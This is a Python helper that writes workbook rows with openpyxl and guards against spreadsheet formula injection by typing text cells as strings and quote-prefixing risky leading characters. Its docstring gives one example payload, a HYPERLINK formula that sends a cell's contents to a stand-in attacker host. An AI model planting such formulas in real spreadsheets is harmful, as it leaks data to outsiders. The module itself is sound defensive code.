"""Rows for the workbooks the portal writes (openpyxl), safe from formula injection.

openpyxl stores any string that starts with "=" as a formula, and a spreadsheet program runs it
when the file is opened: a contributor who names themselves
``=HYPERLINK("https://evil.example/?leak="&A1,"Bấm vào đây")`` would put a live link that sends
the sheet away into the board's report. So every text cell is written as a string, whatever it
starts with; one that starts as a formula would (``= + - @``, tab or carriage return, OWASP's
list) also gets the quote prefix, as if typed after an apostrophe, so that it stays text even
when someone edits the cell. Numbers, dates and empty cells keep their type.
"""

from datetime import date, datetime, time, timedelta
from decimal import Decimal

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, WriteOnlyCell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NATIVE_TYPES = (int, float, Decimal, date, datetime, time, timedelta)


def safe_cell(sheet, value):
    """A cell of ``sheet`` holding ``value``: text (anything not a number or date) never a formula."""
    if value is None or isinstance(value, NATIVE_TYPES):
        return WriteOnlyCell(sheet, value)
    # Control characters cannot be stored in a workbook at all (openpyxl refuses the whole cell).
    text = ILLEGAL_CHARACTERS_RE.sub("", str(value))
    cell = WriteOnlyCell(sheet, text)
    cell.data_type = "s"
    if text.startswith(FORMULA_STARTS):
        cell.quotePrefix = True
    return cell


def append_row(sheet, values) -> None:
    """Append ``values`` to ``sheet`` as one row of safe cells."""
    sheet.append([safe_cell(sheet, value) for value in values])
